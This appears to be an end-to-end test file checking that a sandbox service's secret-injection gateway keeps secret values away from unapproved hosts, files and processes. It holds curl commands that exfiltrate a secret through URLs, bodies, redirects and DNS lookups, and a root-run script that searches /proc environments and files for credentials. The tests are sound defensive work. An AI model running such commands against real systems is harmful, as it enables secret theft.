/** Uses secrets with the clients of the image, and attacks them from within a sandbox that has them. */
import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Command } from '@cloche/contract';
import { eventually } from '@cloche/testkit/eventually';
import { sameWithEachRuntime } from '../support/claims.ts';
import { SandboxCommands } from '../support/commands.ts';
import { type OwnService, testService } from '../support/service.ts';
import { type TestInternet, testInternet } from '../support/test-internet.ts';
import { asRoot } from './support/attackers.ts';
import { installHttpx, secretClients } from './support/secret-clients.ts';

const VALUE = 'the-value-of-this-secret-4d1c7b';
const HOST = 'allowed.test';
const MODES = {
  unrestricted: { mode: 'unrestricted' },
  allowlist: { mode: 'allowlist', hosts: [HOST, 'wild.test'] },
  denylist: { mode: 'denylist', hosts: ['denied.test'] },
} as const;
type Mode = keyof typeof MODES;

let internet: TestInternet;
let service: OwnService;
let secretId: string;
const sandboxes = {} as Record<Mode, SandboxCommands>;

before(async () => {
  internet = await testInternet();
  service = await testService({
    CLOCHE_DNS_UPSTREAM: `${internet.address}:53`,
    CLOCHE_EGRESS_EXTRA_CA: internet.authority.rootFile,
  });
  secretId = (await createSecret(VALUE, [HOST, 'denied.test'])).id;
  for (const mode of Object.keys(MODES) as Mode[]) sandboxes[mode] = await sandboxWith(MODES[mode]);
  if (!replaced.skip) await installHttpx(service, sandboxes.unrestricted);
});
after(async () => {
  await service?.close();
  await internet?.[Symbol.asyncDispose]();
});

async function createSecret(value: string, hosts: readonly string[]): Promise<{ id: string }> {
  const { status, body } = await service.api.post('/v1/secrets', { name: 'e2e', value, hosts });
  assert.equal(status, 201, JSON.stringify(body));
  return body.secret;
}

async function sandboxWith(networkPolicy: object, id = secretId): Promise<SandboxCommands> {
  const sandbox = await service.api.readySandbox({ networkPolicy, secrets: { KEY: id } });
  return new SandboxCommands(service, sandbox.id);
}

async function shell(sandbox: SandboxCommands, script: string): Promise<Command & { text: string }> {
  const command = await sandbox.run(script, { timeoutMs: 60_000 });
  const text = (await sandbox.logs(command.id)).map(({ data }) => data).join('');
  return { ...command, text };
}

/** Returns the credentials that arrived since the call before, with those of `Basic` decoded. */
let read = 0;
async function arrived(): Promise<string[]> {
  const { authorizations } = await internet.seen();
  const fresh = authorizations.slice(read);
  read = authorizations.length;
  return fresh.map((each) =>
    each
      .replace(':443 ', ' ')
      .replace(/ Basic (\S+)$/, (_, text: string) => ` Basic ${Buffer.from(text, 'base64').toString()}`),
  );
}

/** Returns all that the sandbox's root can read of processes, files and environments. */
const SEARCH = `
import glob, os
needle = ${JSON.stringify(VALUE)}[::-1].encode()[::-1]
found = []
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if needle in open(path, "rb").read(): found.append(path)
    except OSError: pass
for folder in ("/workspace", "/home", "/tmp", "/etc", "/run", "/root"):
    for top, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(top, name)
            try:
                if os.path.isfile(path) and needle in open(path, "rb").read(): found.append(path)
            except OSError: pass
print("found " + repr(found))`;

const replaced = sameWithEachRuntime('the gateway replaces it; network-policy tests curl, Python and Node with each');
const served = sameWithEachRuntime('server and gateway find the value, outside of the sandbox');
describe('the clients of the image', replaced, () => {
  const https = `https://${HOST}`;
  for (const [name, { script, sends }] of Object.entries(secretClients(HOST))) {
    it(`${name} sends the value in the place of the placeholder`, async () => {
      await arrived();
      const { exitCode, text } = await shell(sandboxes.unrestricted, script);
      assert.equal(exitCode, 0, text);
      const expected = sends === 'Basic' ? `${HOST} Basic me:${VALUE}` : `${HOST} Bearer ${VALUE}`;
      const got = await arrived();
      assert.ok(got.includes(expected), `${JSON.stringify(got)}\n${text}`);
      assert.ok(got.every((each) => each.includes(VALUE)));
    });
  }

  for (const mode of ['allowlist', 'denylist'] as const) {
    it(`the clients of the image send it in the mode ${mode} too`, async () => {
      await arrived();
      await shell(sandboxes[mode], `curl -sSf -H "Authorization: Bearer $KEY" ${https}/`);
      assert.deepEqual(await arrived(), [`${HOST} Bearer ${VALUE}`]);
    });
  }
});

describe('a sandbox with secrets that was paused', served, () => {
  it('idle/P16: a sandbox with secrets that was paused has its network policy after a wake, and the value that was set meanwhile', async () => {
    const { id } = await createSecret(VALUE, [HOST]);
    const sandbox = await sandboxWith(MODES.allowlist, id);
    const send = `curl -sSf -m 10 -H "Authorization: Bearer $KEY" https://${HOST}/`;
    await arrived();
    await shell(sandbox, send);
    assert.deepEqual(await arrived(), [`${HOST} Bearer ${VALUE}`]);
    const path = `/v1/sandboxes/${sandbox.sandboxId}`;
    assert.equal((await service.api.post(`${path}/pause`, {})).status, 200);
    const changed = await service.api.request('PATCH', `/v1/secrets/${id}`, { body: { value: `${VALUE}-later` } });
    assert.equal(changed.status, 200, JSON.stringify(changed.body));
    assert.ok((await service.api.get(path)).body.sandbox.paused);
    await shell(sandbox, send);
    assert.deepEqual(await arrived(), [`${HOST} Bearer ${VALUE}-later`]);
    assert.notEqual((await shell(sandbox, 'curl -sSf -m 10 https://denied.test/')).exitCode, 0);
    await service.api.delete(path);
  });
});

describe('an unrestricted sandbox with secrets', () => {
  it('an unrestricted sandbox with secrets reaches what one without secrets reaches: HTTP, HTTPS, TCP and datagrams', async () => {
    const script = `curl -sSf http://cloche.test/; curl -sSf https://cloche.test/; curl -sSf http://${internet.address}:8000/
python3 -c 'import socket
s = socket.create_connection(("${internet.address}", 7000), 5); print(s.recv(7).decode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.sendto(b"x", ("${internet.address}", 7000)); print(u.recv(7).decode())'`;
    const { text, exitCode } = await shell(sandboxes.unrestricted, script);
    assert.deepEqual([exitCode, text.match(/reached/g)?.length], [0, 5], text);
  });
});

describe('the value of a secret', () => {
  it(
    'the value of a secret goes to no other host, nor over plain HTTP, nor in a URL, a body or a look-up, nor after a redirect',
    replaced,
    async () => {
      const attacks = {
        'another host': `curl -sSf -H "Authorization: Bearer $KEY" https://wild.test/`,
        'plain HTTP': `curl -sSf -H "Authorization: Bearer $KEY" http://${HOST}/`,
        'plain HTTP to port 443': `curl -sS -m 5 -H "Authorization: Bearer $KEY" http://${HOST}:443/ || true`,
        'the URL': `curl -sSf "https://${HOST}/$KEY?key=$KEY"`,
        'a body': `curl -sSf -d "$KEY" https://${HOST}/`,
        'a redirect': `curl -sSf -L --location-trusted -H "Authorization: Bearer $KEY" "https://${HOST}/?to=https://wild.test/after"`,
        'another name in the request': `curl -sS -H "Host: ${HOST}" -H "Authorization: Bearer $KEY" https://wild.test/ || true`,
        'a look-up': `getent hosts "$KEY.data.test" || true`,
        'the address of the host': `curl -sS -k -H "Authorization: Bearer $KEY" https://${internet.address}/ || true`,
      };
      for (const mode of ['unrestricted', 'allowlist'] as const) {
        for (const [name, script] of Object.entries(attacks)) {
          await arrived();
          await shell(sandboxes[mode], script);
          const got = (await arrived()).filter((each) => each.includes(VALUE));
          const permitted = name === 'a redirect' ? [`${HOST} Bearer ${VALUE}`] : [];
          assert.deepEqual(got, permitted, `${mode}: ${name}`);
        }
      }
      const { requests, questions } = await internet.seen();
      assert.ok(!JSON.stringify([requests, questions]).includes(VALUE));
      // Controls: the placeholder took those ways, and after the redirect the request arrived.
      const key = (await shell(sandboxes.unrestricted, 'printf %s "$KEY"')).text;
      for (const sent of [`${key}?key=${key}`, 'GET wild.test /after'])
        assert.ok(JSON.stringify(requests).includes(sent));
      assert.ok(questions.includes(`${key}.data.test`));
    },
  );

  it('a secret that a permitted host echoes comes back in the body only, as documented', replaced, async () => {
    // Another secret, because the service keeps the output of commands.
    const sandbox = await sandboxWith(MODES.unrestricted, (await createSecret('echoed-value', [HOST])).id);
    const { text } = await shell(sandbox, `curl -sSi -H "Authorization: Bearer $KEY" https://${HOST}/echo`);
    const [head = '', body = ''] = text.split('\r\n\r\n');
    const key = (await shell(sandbox, 'printf %s "$KEY"')).text;
    assert.ok(head.includes(`Bearer ${key}`) && !head.includes('echoed-value'), head);
    assert.equal(body, 'Bearer echoed-value');
  });

  it('the value of a secret is in no process and no file of the sandbox, also for its root', async () => {
    const sandbox = await sandboxWith(MODES.unrestricted);
    await arrived();
    await shell(sandbox, `curl -sSf -H "Authorization: Bearer $KEY" https://${HOST}/ > out`);
    assert.deepEqual(await arrived(), [`${HOST} Bearer ${VALUE}`]);
    await sandbox.start('sleep 60');
    await shell(sandbox, 'env > environment');
    const search = (needle: string) => asRoot(service, sandbox.sandboxId, SEARCH.replaceAll(VALUE, needle));
    assert.equal((await search(VALUE)).trim(), 'found []');
    const key = (await shell(sandbox, 'printf %s "$KEY"')).text;
    // Control: the same search finds the placeholder.
    assert.match(await search(key), /workspace\/environment/);
  });

  it('the value of a secret is in no file, argument, environment or log of the service', async () => {
    const files = [service.dataDir, service.runDir].flatMap((cwd) =>
      globSync('**/*.{json,log,db,db-wal,env}', { cwd }).map((name) => join(cwd, name)),
    );
    const journals = globSync('server/*', { cwd: service.dataDir }).map((name) => join(service.dataDir, name));
    const ofProcesses = (['server', 'hostd', 'egress'] as const).flatMap((part) =>
      ['cmdline', 'environ'].map((name) => `/proc/${service.pid(part)}/${name}`),
    );
    const places = (text: string) =>
      [...files, ...journals, ...ofProcesses].filter((path) => {
        try {
          return readFileSync(path).includes(text);
        } catch {
          return false;
        }
      });
    assert.deepEqual(places(VALUE), []);
    // Control: the same search finds the id of the secret.
    assert.ok(places(secretId).length > 0);
  });

  it('the value of a secret is not given to another sandbox for a placeholder that it learned', async () => {
    const key = (await shell(sandboxes.unrestricted, 'printf %s "$KEY"')).text;
    await arrived();
    await shell(sandboxes.allowlist, `curl -sSf -H "Authorization: Bearer ${key}" https://${HOST}/`);
    assert.deepEqual(await arrived(), [`${HOST} Bearer ${key}`]);
  });
});

describe('a change of a secret', served, () => {
  it('a change of a secret is in force for the next request, and a deleted secret is not sent', async () => {
    const { id } = await createSecret('first-value', [HOST]);
    const sandbox = await sandboxWith(MODES.unrestricted, id);
    const send = async () => {
      await arrived();
      await shell(sandbox, `curl -sSf -H "Authorization: Bearer $KEY" https://${HOST}/`);
      return (await arrived())[0];
    };
    const key = (await shell(sandbox, 'printf %s "$KEY"')).text;
    assert.equal(await send(), `${HOST} Bearer first-value`);
    await service.api.request('PATCH', `/v1/secrets/${id}`, { body: { value: 'second-value' } });
    assert.equal(await send(), `${HOST} Bearer second-value`);
    await service.api.request('PATCH', `/v1/secrets/${id}`, { body: { hosts: ['wild.test'], value: 'second-value' } });
    assert.equal(await send(), `${HOST} Bearer ${key}`);
    await service.api.request('PATCH', `/v1/secrets/${id}`, { body: { hosts: [HOST], value: 'second-value' } });
    assert.equal(await send(), `${HOST} Bearer second-value`);
    await service.api.delete(`/v1/secrets/${id}`);
    assert.equal(await send(), `${HOST} Bearer ${key}`);
  });
});

describe('after kill -9', served, () => {
  for (const part of ['egress', 'hostd', 'server'] as const) {
    it(`after kill -9 of ${part}, a sandbox has its secrets again`, async () => {
      await service.kill(part);
      await service.restart(part);
      await arrived();
      await eventually(async () => {
        const sent = await shell(sandboxes.unrestricted, `curl -sSf -H "Authorization: Bearer $KEY" https://${HOST}/`);
        return sent.exitCode === 0;
      });
      assert.deepEqual(await arrived(), [`${HOST} Bearer ${VALUE}`]);
    });
  }
});
